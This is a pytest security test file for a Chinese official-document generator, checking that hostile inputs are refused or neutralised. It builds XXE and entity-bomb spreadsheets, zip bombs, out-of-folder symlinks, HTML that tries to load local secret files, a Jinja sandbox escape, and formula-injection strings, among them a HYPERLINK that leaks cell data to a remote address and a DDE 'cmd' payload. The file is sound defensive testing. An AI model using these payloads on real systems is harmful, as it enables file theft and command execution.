"""Issue 7: hostile and broken input.  The corpus in tests/hostile/ (cases.yaml lists
each file and what it must produce) runs through the CLI; the URL fetcher is tested on
raw HTML, beneath the escaping, so neither layer alone keeps a local file out of a PDF;
office-edited wording templates run sandboxed, with typos named by file and line."""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
import logging
import os
import shutil
import socket
import struct
import subprocess
import time
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pdfplumber
import pytest
import yaml
from conftest import ROOT, run_cli
from openpyxl import Workbook
from pypdf import PdfReader
from pypdf.generic import StreamObject

from generators.core.errors import InputError
from generators.core.paths import TEMPLATES
from generators.kinds.circular import build_circular, load_circular
from generators.render import fetcher as fetcher_mod
from generators.render import pdf as pdf_mod

HOSTILE = ROOT / "tests" / "hostile"
CASES: list[dict] = yaml.safe_load((HOSTILE / "cases.yaml").read_text(encoding="utf-8"))
BOOK = ROOT / "sample_inputs" / "2012" / "target_book.yaml"
Q1_CSV = ROOT / "sample_inputs" / "2012" / "results" / "2012Q1.csv"
MARKER = "GWSECRET7f3a9c41"  # only in the secret files, never in an input
SECRET_PNG_SIZE = (37, 23)
SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")


# --- secret files and the corpus copy ----------------------------------------------------


def _png(width: int, height: int, text: str) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + bytes((200, 30, 30)) * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"".join(
        (
            b"\x89PNG\r\n\x1a\n",
            chunk(b"IHDR", header),
            chunk(b"tEXt", b"Comment\x00" + text.encode()),
            chunk(b"IDAT", zlib.compress(rows)),
            chunk(b"IEND", b""),
        )
    )


@dataclass
class Secrets:
    folder: Path
    urls: dict[str, str]  # placeholder → file:// URL
    paths: dict[str, str] = dataclasses.field(default_factory=dict)  # placeholder → absolute path


SECRET_PLAN = f"""标题: 秘密计划{MARKER}
制定单位: 某机关
年份: 2012
日期: '2012-01-20'
章节:
- 标题: 秘密章节
  正文: {MARKER} 口令 hunter2
"""


def make_secrets(folder: Path) -> Secrets:
    folder.mkdir(parents=True, exist_ok=True)
    files = {
        "@SECRET@": ("secret.txt", f"{MARKER} 口令 hunter2\n".encode()),
        "@SECRET_PNG@": ("secret.png", _png(*SECRET_PNG_SIZE, MARKER)),
        "@SECRET_CSS@": ("secret.css", f'body::after {{ content: "{MARKER}"; }}\n'.encode()),
        "@SECRET_SVG@": (
            "secret.svg",
            f'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="40">'
            f'<text x="0" y="30">{MARKER}</text></svg>'.encode(),
        ),
    }
    urls = {}
    for placeholder, (name, data) in files.items():
        (folder / name).write_bytes(data)
        urls[placeholder] = (folder / name).as_uri()
    (folder / "secret.yaml").write_text(SECRET_PLAN, encoding="utf-8")  # a valid work plan
    paths = {"@SECRET_PATH@": str(folder / "secret.txt"), "@SECRET_PATH_YAML@": str(folder / "secret.yaml")}
    return Secrets(folder, urls, paths)


def substitute(text: str, secrets: Secrets) -> str:
    # Longest placeholders first: @SECRET@ is a prefix of none, but keep it safe.
    every = {**secrets.urls, **secrets.paths}
    for placeholder in sorted(every, key=len, reverse=True):
        text = text.replace(placeholder, every[placeholder])
    return text


@pytest.fixture(scope="module")
def secrets(tmp_path_factory: pytest.TempPathFactory) -> Secrets:
    return make_secrets(tmp_path_factory.mktemp("secret"))


@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory, secrets: Secrets) -> Path:
    """tests/hostile copied with the secret URLs filled in (binary files as they are)."""
    root = tmp_path_factory.mktemp("hostile") / "cases"
    for src in HOSTILE.rglob("*"):
        if not src.is_file():
            continue
        dst = root / src.relative_to(HOSTILE)
        dst.parent.mkdir(parents=True, exist_ok=True)
        data = src.read_bytes()
        try:
            dst.write_text(substitute(data.decode("utf-8"), secrets), encoding="utf-8")
        except UnicodeDecodeError:
            dst.write_bytes(data)
    return root


@pytest.fixture(autouse=True)
def private_registry(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Circulars claim numbers in a registry; keep the tests' claims out of the checkout."""
    monkeypatch.setenv("GONGWEN_REGISTRY", str(tmp_path / "registry.sqlite3"))


# --- generated cases (binary, or too big to keep in the repository) -------------------------


def _form_workbook() -> Workbook:
    """The Q1 sample results laid out as the fill-in form (period B2, names row 3, data from row 5)."""
    lines = [line for line in Q1_CSV.read_text(encoding="utf-8-sig").splitlines() if not line.startswith("#")]
    rows = [line.split(",") for line in lines]
    wb = Workbook()
    ws = wb.active
    ws.title = "2012Q1"
    ws["A1"] = "填报表"
    ws["A2"], ws["B2"] = "统计期间", "2012Q1"
    for k, head in enumerate(rows[0], start=1):
        ws.cell(3, k, head)
    for r, row in enumerate(rows[1:], start=5):
        ws.cell(r, 1, row[0])
        for k, value in enumerate(row[1:], start=2):
            ws.cell(r, k, int(value))
    return wb


def _save(wb: Workbook, path: Path) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)


def formula_xlsx(path: Path) -> None:
    wb = _form_workbook()
    wb.active["D6"] = "=1+1"
    _save(wb, path)


def _with_member(path: Path, size: int) -> None:
    """A valid form plus one member of ``size`` zero bytes (deflates to almost nothing)."""
    _save(_form_workbook(), path)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as zf, zf.open("xl/media/image1.bin", "w") as fh:
        chunk = bytes(1 << 20)
        for _ in range(size >> 20):
            fh.write(chunk)


def zip_bomb_xlsx(path: Path) -> None:
    _with_member(path, 120 << 20)  # 120 MiB unpacked, about 120 KiB packed


def zip_ratio_xlsx(path: Path) -> None:
    _with_member(path, 4 << 20)  # small unpacked, but a ratio no real form has


def many_sheets_xlsx(path: Path) -> None:
    wb = _form_workbook()
    for i in range(29):
        wb.create_sheet(f"S{i}")
    _save(wb, path)


def huge_sheet_xlsx(path: Path) -> None:
    wb = _form_workbook()
    wb.active.cell(20_000, 1, "赣榆县妇幼保健所")
    _save(wb, path)


def big_yaml(path: Path) -> None:
    line = "正文: " + "很长的正文。" * 40 + "\n"
    path.write_text("标题: 过大的文件\n" + "# " + line * (3 * 1024 * 1024 // len(line.encode())), encoding="utf-8")


# --- issue 18: inputs that are not regular files, links out of the folder, broken sheets ---


def fifo(path: Path) -> None:
    """A named pipe: opening it for reading would block until a writer came."""
    path.unlink(missing_ok=True)
    os.mkfifo(path)


def dev_zero(path: Path) -> None:
    """A symlink to /dev/zero: endless bytes, no size."""
    path.unlink(missing_ok=True)
    path.symlink_to("/dev/zero")


def outside_link(path: Path) -> None:
    """The case names link_secret.txt, a symlink beside it to a .txt outside the folder."""
    outside = path.parent.parent.parent / "outside_secret.txt"
    outside.write_text(f"{MARKER} 链接之外的秘密\n", encoding="utf-8")
    link = path.parent / "link_secret.txt"
    link.unlink(missing_ok=True)
    link.symlink_to(outside)


def outside_folder_link(path: Path) -> None:
    """A symlinked folder inside the input folder, leading out of it."""
    outside = path.parent.parent.parent / "outside_folder"
    outside.mkdir(exist_ok=True)
    (outside / "secret.txt").write_text(f"{MARKER} 链接文件夹之外的秘密\n", encoding="utf-8")
    link = path.parent / "linked_folder"
    if not link.is_symlink():
        link.symlink_to(outside, target_is_directory=True)


def attachment_fifo(path: Path) -> None:
    pipe = path.parent / "pipe.txt"
    pipe.unlink(missing_ok=True)
    os.mkfifo(pipe)


def long_title(path: Path) -> None:
    text = (HOSTILE / "names" / "plan_title_con.yaml").read_text(encoding="utf-8")
    lines = [line for line in text.splitlines() if not line.startswith("标题:")]
    path.write_text("\n".join(["标题: " + "关于测试的计划" * 1715, *lines]) + "\n", encoding="utf-8")


def _sheet_xml(path: Path, change: Callable[[str], str]) -> None:
    """The form workbook with its sheet's XML rewritten by ``change``."""
    _save(_form_workbook(), path)
    with zipfile.ZipFile(path) as zf:
        parts = {info.filename: zf.read(info) for info in zf.infolist()}
    sheet = "xl/worksheets/sheet1.xml"
    parts[sheet] = change(parts[sheet].decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)


def _with_doctype(xml: str, doctype: str) -> str:
    head, sep, rest = xml.partition("?>")
    return head + sep + doctype + rest if sep else doctype + xml


def xxe_xlsx(path: Path) -> None:
    doctype = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    _sheet_xml(path, lambda x: _with_doctype(x, doctype).replace("<v>2012Q1</v>", "<v>&xxe;</v>", 1))


def entity_bomb_xlsx(path: Path) -> None:
    entities = '<!ENTITY a "aaaaaaaaaa">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)
    )
    _sheet_xml(
        path,
        lambda x: _with_doctype(x, f"<!DOCTYPE worksheet [{entities}]>").replace("</sheetData>", "</sheetData>&i;", 1),
    )


def truncated_xlsx(path: Path) -> None:
    _sheet_xml(path, lambda x: x[: len(x) * 2 // 3])


def nan_count_xlsx(path: Path) -> None:
    """A count cell of type n holding NaN (openpyxl's int() of it raises)."""

    def change(xml: str) -> str:
        import re

        return re.sub(r'(<c r="C5"[^>]*>)<v>[^<]*</v>', r"\1<v>NaN</v>", xml, count=1)

    _sheet_xml(path, change)


GENERATORS = {
    f.__name__: f
    for f in (
        formula_xlsx,
        zip_bomb_xlsx,
        zip_ratio_xlsx,
        many_sheets_xlsx,
        huge_sheet_xlsx,
        big_yaml,
        fifo,
        dev_zero,
        outside_link,
        outside_folder_link,
        attachment_fifo,
        long_title,
        xxe_xlsx,
        entity_bomb_xlsx,
        truncated_xlsx,
        nan_count_xlsx,
    )
}


# --- what a PDF may not hold ----------------------------------------------------------------


def leaks(pdf: Path, marker: str = MARKER, images: bool = False) -> list[str]:
    """Every trace of a secret file in ``pdf``: the marker in its bytes, in any decoded
    stream or in its text, any image (unless ``images``: a report's own chart), any
    embedded file."""
    found = []
    if marker.encode() in pdf.read_bytes():
        found.append("raw bytes")
    reader = PdfReader(pdf)
    if reader.attachments:
        found.append(f"attachments {list(reader.attachments)}")
    for n, page in enumerate(reader.pages, start=1):
        if marker in page.extract_text():
            found.append(f"pypdf text, page {n}")
        if len(page.images) and not images:
            found.append(f"{len(page.images)} image(s), page {n}")
    for num in range(1, int(reader.trailer["/Size"])):
        try:
            obj = reader.get_object(num)
        except Exception:  # free or broken entries are not ours to judge here
            continue
        if isinstance(obj, StreamObject):
            data = obj.get_data()
            if marker.encode() in data or marker.encode("utf-16-be") in data:
                found.append(f"stream object {num}")
    with pdfplumber.open(pdf) as doc:
        for n, page in enumerate(doc.pages, start=1):
            if marker in (page.extract_text() or ""):
                found.append(f"pdfplumber text, page {n}")
            if page.images and not images:
                found.append(f"pdfplumber image(s), page {n}")
    return found


def pdf_text(pdf: Path) -> str:
    with pdfplumber.open(pdf) as doc:
        return "".join("".join((page.extract_text() or "").split()) for page in doc.pages)


# --- the corpus -----------------------------------------------------------------------------


def _params() -> list:
    out = []
    for case in CASES:
        marks = [pytest.mark.xfail(strict=True, reason=case["known_gap"])] if "known_gap" in case else []
        out.append(pytest.param(case, id=case["file"], marks=marks))
    return out


def test_corpus_is_large_and_complete() -> None:
    assert len(CASES) >= 30
    listed = {c["file"] for c in CASES} | {c["error_file"] for c in CASES if "error_file" in c}
    support = {
        "inject/payload.txt",
        "circular/control_char.txt",
        "book/units_ok.yaml",
        "names/units_hostile.yaml",
        "names/units_long.yaml",
        "supervision/target_book.yaml",
        "supervision/units.yaml",
        "supervision/results/2012Q1.csv",
        "supervision/indicators_dollar.yaml",
        "circular/inside.txt",
    }
    kept = {str(p.relative_to(HOSTILE)) for p in HOSTILE.rglob("*") if p.is_file() and p.name != "cases.yaml"}
    assert kept - listed - support == set(), "a corpus file is not in cases.yaml"
    missing = {c["file"] for c in CASES if "generate" not in c} - kept
    assert missing == set(), missing
    assert all(c.get("generate") in (None, *GENERATORS) for c in CASES)


@pytest.mark.parametrize("case", _params())
def test_hostile_case(case: dict, corpus: Path, tmp_path: Path) -> None:
    path = corpus / case["file"]
    if "generate" in case:
        GENERATORS[case["generate"]](path)
    out = tmp_path / "out"
    if case["run"] == "build":
        args = ["build", str(path), "--out", str(out)]
    else:
        args = ["check", str(path), "--period", "2012Q1", "--book", str(BOOK)]
    args += case.get("args", [])
    started = time.monotonic()
    result = run_cli(*args)
    elapsed = time.monotonic() - started
    err = result.stderr
    if case["expect"] == "error":
        assert result.returncode == 2, (result.returncode, err[-3000:])
        assert err.startswith("错误："), err[-3000:]
        assert "Traceback" not in err
        assert str(corpus / case.get("error_file", case["file"])) in err, err
        for word in case.get("words", []):
            assert word in err, (word, err)
        assert MARKER not in err  # a refusal quotes the path, never the secret's text
        if "line" in case:
            assert f"第 {case['line']} 行" in err, err
        assert not out.exists() or not [p for p in out.rglob("*") if p.is_file()], list(out.rglob("*"))
        return
    assert result.returncode == 0, err[-3000:]
    assert elapsed < 60, elapsed  # a refused URL costs nothing; a network timeout would show
    # Text that looks like markup reached weasyprint escaped: it had nothing to fetch.
    assert "拒绝加载" not in err, err
    files = [p for p in out.rglob("*") if p.is_file()]
    assert all(p.resolve().is_relative_to(out.resolve()) for p in files)
    for name in case.get("outputs", []):
        assert (out / name).is_file(), (name, sorted(str(p.relative_to(out)) for p in files))
    pdfs = [p for p in files if p.suffix == ".pdf"]
    assert pdfs
    for pdf in pdfs:
        assert leaks(pdf, images=case.get("images", False)) == [], pdf
    text = "".join(pdf_text(p) for p in pdfs)
    for word in case.get("words", []):
        assert "".join(word.split()) in text, (word, text[:2000])
    for docx in (p for p in files if p.suffix == ".docx"):
        with zipfile.ZipFile(docx) as zf:
            if not case.get("images"):
                assert not [n for n in zf.namelist() if n.startswith("word/media/")], docx
            assert all(MARKER.encode() not in zf.read(n) for n in zf.namelist()), docx


# --- the fetcher, beneath the escaping --------------------------------------------------------

# What an input could do if its text ever reached the HTML unescaped.
RAW_HTML = """<!DOCTYPE html><html><head><meta charset="utf-8">
<link rel="stylesheet" href="@SECRET_CSS@">
<link rel="attachment" href="@SECRET@">
<style>@import url("http://10.255.255.1/a.css");
body {{ background: url("@SECRET_PNG@"); }}
@font-face {{ font-family: Leak; src: url("@SECRET@"); }}</style></head>
<body><p>正文</p>
<img src="@SECRET_PNG@"><img src="@SECRET_SVG@"><img src="{relative}">
<img src="https://example.invalid/b.png"><img src="ftp://10.255.255.1/c.png">
<iframe src="@SECRET@"></iframe><object data="@SECRET_PNG@"></object><embed src="@SECRET_PNG@">
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
<image href="@SECRET_PNG@" width="100" height="100"/></svg>
<div style="background-image: url(@SECRET_PNG@)">x</div>
</body></html>"""


def _raw_html(secrets: Secrets) -> str:
    # A relative URL climbing out of templates/ to the secret file.
    relative = "../" * len(TEMPLATES.parts) + str(secrets.folder / "secret.png").lstrip("/")
    return substitute(RAW_HTML.format(relative=relative), secrets)


def _document():
    spec, located = load_circular(HOSTILE / "names" / "traversal_code.yaml")
    return build_circular(spec, located)


def test_leak_check_sees_a_leak(secrets: Secrets, tmp_path: Path) -> None:
    """Control: weasyprint's own fetcher does read the secrets into the PDF, so the
    checks above would notice a leak."""
    import weasyprint

    html = _raw_html(secrets).replace("http://", "data:,").replace("https://", "data:,").replace("ftp://", "data:,")
    target = tmp_path / "leaky.pdf"
    weasyprint.HTML(string=html, base_url=str(TEMPLATES)).write_pdf(target)
    found = " ".join(leaks(target))
    assert "attachments" in found and "image" in found and "text" in found, found


def test_fetcher_refuses_files_and_network(
    secrets: Secrets, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, caplog: pytest.LogCaptureFixture
) -> None:
    attempts: list[object] = []

    def no_network(*args: object, **kwargs: object) -> None:
        attempts.append(args)
        raise OSError("network disabled in this test")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    monkeypatch.setattr(socket, "create_connection", no_network)
    monkeypatch.setattr(socket, "getaddrinfo", no_network)
    monkeypatch.setattr(pdf_mod, "to_html", lambda doc, **_: _raw_html(secrets))
    target = tmp_path / "hostile.pdf"
    with caplog.at_level(logging.WARNING, logger="gongwen.fetcher"):
        started = time.monotonic()
        pdf_mod.write_pdf(_document(), target)
        elapsed = time.monotonic() - started
    assert leaks(target) == []
    assert attempts == []
    assert elapsed < 15, elapsed  # no network timeouts (10.255.255.1 never answers)
    refused = " ".join(r.getMessage() for r in caplog.records if r.name == "gongwen.fetcher")
    for url in (
        *secrets.urls.values(),
        "http://10.255.255.1/a.css",
        "https://example.invalid/b.png",
        "ftp://10.255.255.1/c.png",
    ):
        assert f"拒绝加载 {url}" in refused, (url, refused)
    assert "正文" in pdf_text(target)


def test_fetcher_serves_only_own_files(secrets: Secrets, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    fetch = fetcher_mod.SafeFetcher()
    own = fetch.fetch((TEMPLATES / "gongwen.css.j2").as_uri())
    assert own.read() == (TEMPLATES / "gongwen.css.j2").read_bytes()
    png = _png(2, 2, "x")
    data = fetch.fetch("data:image/png;base64," + base64.b64encode(png).decode())
    assert data.read() == png and data.content_type == "image/png"
    refused = [
        (TEMPLATES / ".." / "pyproject.toml").as_uri(),  # .. out of templates/
        f"file://localhost{secrets.folder}/secret.txt",
        f"file://otherhost{TEMPLATES}/gongwen.css.j2",  # a network share
        "file:///etc/passwd",
        "http://127.0.0.1/",
        "https://example.invalid/",
        "ftp://example.invalid/x",
        "gopher://example.invalid/",
        "javascript:alert(1)",
        TEMPLATES.as_uri(),  # a folder, not a file
    ]
    for url in refused:
        with pytest.raises(fetcher_mod.RefusedURL):
            fetch.fetch(url)
    assert fetch.refused == refused
    # A link inside an allowed folder that points outside it is followed, then refused.
    allowed = tmp_path / "allowed"
    allowed.mkdir()
    (allowed / "link.css").symlink_to(secrets.folder / "secret.css")
    (allowed / "own.css").write_text("p {}", encoding="utf-8")
    monkeypatch.setattr(fetcher_mod, "ALLOWED_ROOTS", (allowed,))
    assert fetch.fetch((allowed / "own.css").as_uri()).read() == b"p {}"
    with pytest.raises(fetcher_mod.RefusedURL):
        fetch.fetch((allowed / "link.css").as_uri())


def test_every_html_template_is_autoescaped() -> None:
    env = pdf_mod._env()
    markup = [p for p in TEMPLATES.rglob("*") if p.is_file() and any(s in p.name for s in (".html", ".xml", ".svg"))]
    assert markup
    for path in markup:
        assert env.autoescape(str(path.relative_to(TEMPLATES))), path
    doc = dataclasses.replace(_document(), title_lines=('<img src="file:///etc/passwd">&',))
    html = pdf_mod.to_html(doc)
    assert "&lt;" in html and "&#34;" in html and "&gt;&amp;" in html
    assert "<img" not in html


# --- office-edited wording templates --------------------------------------------------------


def _template_copy(tmp_path: Path, kind: str, name: str, line: int, text: str) -> Path:
    folder = tmp_path / kind
    shutil.copytree(TEMPLATES / kind, folder)
    lines = (folder / name).read_text(encoding="utf-8").split("\n")
    lines.insert(line - 1, text)
    (folder / name).write_text("\n".join(lines), encoding="utf-8")
    return folder


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("{{ 单位.名字 }}", ["名字"]),  # a typo in a field name
        ("{{ 单位名称 }}", ["单位名称", "undefined"]),  # a variable that does not exist
        ("{{ 单位.__class__.__mro__ }}", ["unsafe"]),  # a way out of the sandbox: refused, with its line
        ("{{ 单位.名称 }", ["模板有误"]),  # broken syntax
    ],
)
def test_book_template_errors_name_file_line_and_variable(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, text: str, words: list[str]
) -> None:
    from generators.core.yamlsrc import read_yaml
    from generators.kinds import target_wording
    from generators.kinds.target_book import book_jobs

    folder = _template_copy(tmp_path, "target_book", "unit.txt.j2", 4, text)
    monkeypatch.setattr(target_wording, "BOOK_TEMPLATES", folder)
    with pytest.raises(InputError) as info:
        book_jobs(read_yaml(BOOK))  # one document per unit, each with its unit line
    message = str(info.value)
    assert info.value.file == folder / "unit.txt.j2"
    assert info.value.line == 4, message
    assert "模板有误" in message
    for word in words:
        assert word in message, message


def test_supervision_template_typo_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from generators.core.yamlsrc import read_yaml
    from generators.kinds import supervision_report as report
    from generators.kinds.supervision_jobs import supervision_jobs

    # On the line of the first heading, below the template's comment, whatever its length.
    wording = (TEMPLATES / "supervision" / "report.txt.j2").read_text(encoding="utf-8")
    line = wording.split("\n").index("一、基本情况") + 1
    folder = _template_copy(tmp_path, "supervision", "report.txt.j2", line, "共{{ 单位数目 }}个单位。")
    monkeypatch.setattr(report, "WORDING", folder)
    with pytest.raises(InputError) as info:
        supervision_jobs(read_yaml(ROOT / "sample_inputs" / "2012" / "supervision.yaml"))
    assert info.value.file == folder / "report.txt.j2"
    assert info.value.line == line
    assert "单位数目" in str(info.value) and "模板有误" in str(info.value)


# --- the XLSX reader's zip check on its own ---------------------------------------------------


def test_zip_check_runs_before_openpyxl(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from generators.sheets import forms_read

    path = tmp_path / "bomb.xlsx"
    zip_ratio_xlsx(path)
    opened: list[object] = []
    monkeypatch.setattr(forms_read, "load_workbook", lambda *a, **k: opened.append(a))
    with pytest.raises(InputError, match="压缩炸弹"):
        forms_read._check_zip(path)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        for i in range(forms_read.MAX_MEMBERS + 1):
            zf.writestr(f"x/{i}", b"")
    (tmp_path / "many.xlsx").write_bytes(buffer.getvalue())
    with pytest.raises(InputError, match="部件"):
        forms_read._check_zip(tmp_path / "many.xlsx")
    assert opened == []


# --- formula injection into the generated fill-in form ----------------------------------------
# (the statistics table has its own: tests/sheets/test_stat_table.py::test_injected_text_stays_text)

INJECTED_UNITS = [
    '=HYPERLINK("http://10.255.255.1/?leak="&B5,"点击查看")',
    "+SUM(1,1)",
    "-2+3",
    "@SUM(2,2)",
    "=cmd|' /C calc'!A0",
]


def test_form_unit_names_stay_text(tmp_path: Path) -> None:
    """Unit names from a units file that a spreadsheet would run as formulas are written
    as text: openpyxl reads them back as strings, and LibreOffice shows them as typed."""
    from openpyxl import load_workbook

    from generators.indicators.dictionary import default_dictionary
    from generators.indicators.period import Period
    from generators.indicators.units import load_units
    from generators.sheets.forms import write_blank_form
    from generators.sheets.forms_write import FIRST_DATA_ROW

    units_file = tmp_path / "units.yaml"
    entries = "".join(
        f"  - 名称: '{name.replace(chr(39), chr(39) * 2)}'\n    简称: 单位{i}\n    法定代表人: 某某\n"
        for i, name in enumerate(INJECTED_UNITS)
    )
    units_file.write_text("成员单位:\n" + entries, encoding="utf-8")
    units = load_units(units_file)
    assert [u.name for u in units] == INJECTED_UNITS
    counts = list(default_dictionary().counts.values())[:3]
    form = write_blank_form(tmp_path / "form.xlsx", Period(2012, 1), units, counts, group='=HYPERLINK("x")集团')
    ws = load_workbook(form).worksheets[0]
    cells = [ws.cell(FIRST_DATA_ROW + i, 1) for i in range(len(units))]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [(n, "s", True) for n in INJECTED_UNITS]
    assert ws["A1"].data_type == "s" and ws["A1"].value.startswith("=HYPERLINK")
    if SOFFICE is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    profile = tmp_path / "lo-profile"
    subprocess.run(
        [
            SOFFICE,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
            str(tmp_path / "lo"),
            str(form),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    rows = list(csv.reader(io.StringIO((tmp_path / "lo" / "form.csv").read_text(encoding="utf-8"))))
    assert [rows[FIRST_DATA_ROW - 1 + i][0] for i in range(len(units))] == INJECTED_UNITS
    assert rows[0][0].startswith('=HYPERLINK("x")集团') and rows[0][0].endswith("填报表")
